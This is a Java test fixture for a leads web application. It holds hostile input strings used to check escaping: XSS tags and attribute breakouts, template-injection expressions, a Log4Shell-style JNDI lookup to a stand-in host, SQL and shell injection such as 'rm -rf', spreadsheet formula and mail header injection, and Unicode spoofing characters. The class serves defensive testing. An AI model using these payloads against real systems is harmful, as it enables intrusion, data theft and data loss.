package dev.leadloop.pages;

import java.util.ArrayList;
import java.util.List;

/**
 * What people who mean harm write where a name, a company or a note is asked for: markup in every place that a page has, words of
 * template languages, formulas, heads of mails, signs that turn or hide a text. Each bears a mark of its own.
 */
final class HostileValues {
  /** Stands in every value, with its number behind it. */
  static final String MARK = "q7z";
  /** What comes of a value where something computed it. */
  static final String COMPUTED = "892001";

  private static final List<String> MARKUP = List.of(
      "<script>window.taken='¤'</script>", "<img src=x onerror=window.taken='¤'>", "<svg onload=window.taken='¤'>",
      "<svg><script>window.taken='¤'</script></svg>", "<iframe src=javascript:window.taken='¤'></iframe>",
      "<a href=javascript:window.taken='¤'>¤</a>", "<body onload=window.taken='¤'>", "<base href=https://¤.example/>",
      "<link rel=stylesheet href=https://¤.example/x.css>", "<meta http-equiv=refresh content='0;url=https://¤.example'>",
      "<style>*{background:url(https://¤.example/x)}</style>", "<object data=https://¤.example/x></object>",
      "<form action=https://¤.example><input name=¤ autofocus onfocus=window.taken=1></form>", "<math><mtext><¤>",
      "<details open ontoggle=window.taken='¤'>", "<video><source onerror=window.taken='¤'></video>",
      "<input type=image src=x onerror=window.taken='¤'>", "<marquee onstart=window.taken='¤'>¤</marquee>",
      "<template><img src=x onerror=window.taken='¤'></template>", "<noscript><p title=\"</noscript><img src=x onerror=¤>\">",
      "<x hx-get=https://¤.example hx-trigger=load>", "<div hx-on:load=window.taken='¤'>", "<div data-countdown=¤ class=¤>",
      "<!-- ¤ -->", "<![CDATA[¤]]>", "<?¤ ?>", "<¤", "</¤>", "&lt;script&gt;¤&lt;/script&gt;", "&#60;script>¤",
      "\\u003cscript\\u003e¤");
  private static final List<String> BEFORE = List.of(
      "\"", "'", "`", "\">", "'>", "</title>", "</textarea>", "</script>", "</option>",
      "--></p>", "</td></tr></table>");
  private static final List<String> ATTRIBUTES = List.of(
      "\" onmouseover=\"window.taken='¤'", "' onmouseover='window.taken=1' x='¤", "\" style=\"color:red\" x=\"¤",
      "\" autofocus onfocus=window.taken=1 x=\"¤", "x\" formaction=\"javascript:¤", "javascript:window.taken='¤'",
      "JaVaScRiPt:¤", "data:text/html,<script>¤</script>", "vbscript:¤", "//¤.example/x", "https://¤.example/x", "/\\¤.example",
      "?lead=¤&of=x#y", "../../¤", "..\\..\\¤", "%2e%2e%2f¤", "%00¤", "%0d%0aSet-Cookie:¤=1");
  private static final List<String> LANGUAGES = List.of(
      "${913*977}¤", "#{913*977}¤", "*{913*977}¤", "¤{/¤}", "~{fragments/page :: bar}¤", "[[${913*977}]]¤", "[(${913*977})]¤",
      "__${913*977}__¤", "__${T(java.lang.Runtime)}__::.¤", "{{913*977}}¤", "{{=913*977}}¤", "{913*977}¤", "<%= 913*977 %>¤",
      "<#assign x=913*977>${x}¤", "{% if true %}¤{% endif %}", "{{firstName}}¤", "{{{company}}}¤", "{{#company}}¤{{/company}}",
      "{{unsubscribe}}¤", "${jndi:ldap://¤.example/x}", "${env:PATH}¤", "%{913*977}¤", "%s%n%x¤", "{0}{1}¤", "$(id)¤", "`id`¤",
      "; rm -rf /tmp/¤", "' or '1'='1¤", "'; drop table lead; --¤", "\" or \"\"=\"¤", "1;select pg_sleep(9)--¤", "%' escape '¤",
      "_%¤", "\\¤", "¤\\", "WorkflowType='Lead' or ¤", "SlaLevel='¤'");
  private static final List<String> CELLS = List.of(
      "=913*977+¤", "+913*977+¤", "-913*977+¤", "@SUM(1)¤", "\t=¤", "\r=¤", "\n=¤", "=cmd|'/c calc'!¤",
      "=HYPERLINK(\"https://¤.example\",\"x\")",
      " =¤", "\uFF1D¤", "\uFF0B¤", "\uFF20¤", "\"=¤\"", ";=¤", ",=¤", "|¤", "¤,\"\",\"x", "¤\",\"x\"\n\"y");
  private static final List<String> HEADS = List.of(
      "¤\r\nBcc: ¤@x.example", "¤\nBcc: ¤@x.example", "¤\rSubject: x", "¤%0aBcc: x", "¤\u2028Bcc: x", "¤\u0085Bcc: x",
      "\"¤\" <¤@x.example>", "<¤@x.example>", "¤@x.example, b¤x.example", "=?utf-8?q?¤=0aBcc:_x?=", "=?utf-8?b?PHNjcmlwdD4=?= ¤",
      "¤\r\n\r\n<script>x</script>", "--b\r\nContent-Type: text/html\r\n\r\n¤", ".\r\n¤", "¤\u0000x");
  private static final List<String> SIGNS = List.of(
      "\u202e¤exe", "¤\u2066x", "\u200b¤\u200b", "\ufeff¤", "¤\u00ad\u00ad", "\u0301\u0301\u0301¤", "a\u0335\u0336\u0337\u0338¤",
      "\u05d0\u05d1 ¤ \u05d2", "\u0627\u0644 ¤", "\ud83d\udc69\u200d\ud83d\udcbb ¤", "\ud83c\udff4\udb40\udc67 ¤", "\ufdfd¤",
      "\u1d5d1¤", "\uff1cscript\uff1e¤", "\u2039script\u203a¤", "\u0001¤", "¤\u001b[31m", "¤\u0007", "\u2603¤", "\u0130¤\u0131");
  private static final List<String> WORDS = List.of(
      "null ¤", "undefined ¤", "true ¤", "NaN ¤", "1e309 ¤", "-0 ¤", "[x](javascript:¤)", "![x](https://¤.example/x)",
      "**¤** _x_ `y`", "# ¤", "> ¤", "| ¤ | x |", "[object Object] ¤", "{\"¤\":1}", "[\"¤\"]", "---\n¤: 1",
      "!!java.lang.Runtime ¤",
      "&¤ *¤", "con ¤", "C:\\¤", "file:///etc/¤", "\\\\¤\\x", "{}¤", "()¤", "//¤", "/* ¤ */", "<>¤", "&amp;¤", "&¤;", "&#0;¤");

  private HostileValues() {}

  /** More than two hundred, in an order that stays. */
  static List<String> all() {
    List<String> all = new ArrayList<>(MARKUP);
    for (String before : BEFORE) {
      MARKUP.stream().limit(3).map(before::concat).forEach(all::add);
    }
    for (List<String> kind : List.of(ATTRIBUTES, LANGUAGES, CELLS, HEADS, SIGNS, WORDS)) {
      all.addAll(kind);
    }
    List<String> marked = new ArrayList<>();
    for (String value : all) {
      marked.add(marked(value, MARK + String.format("%03d", marked.size())));
    }
    return marked;
  }

  private static String marked(String value, String mark) {
    return value.replace("¤", mark);
  }
}
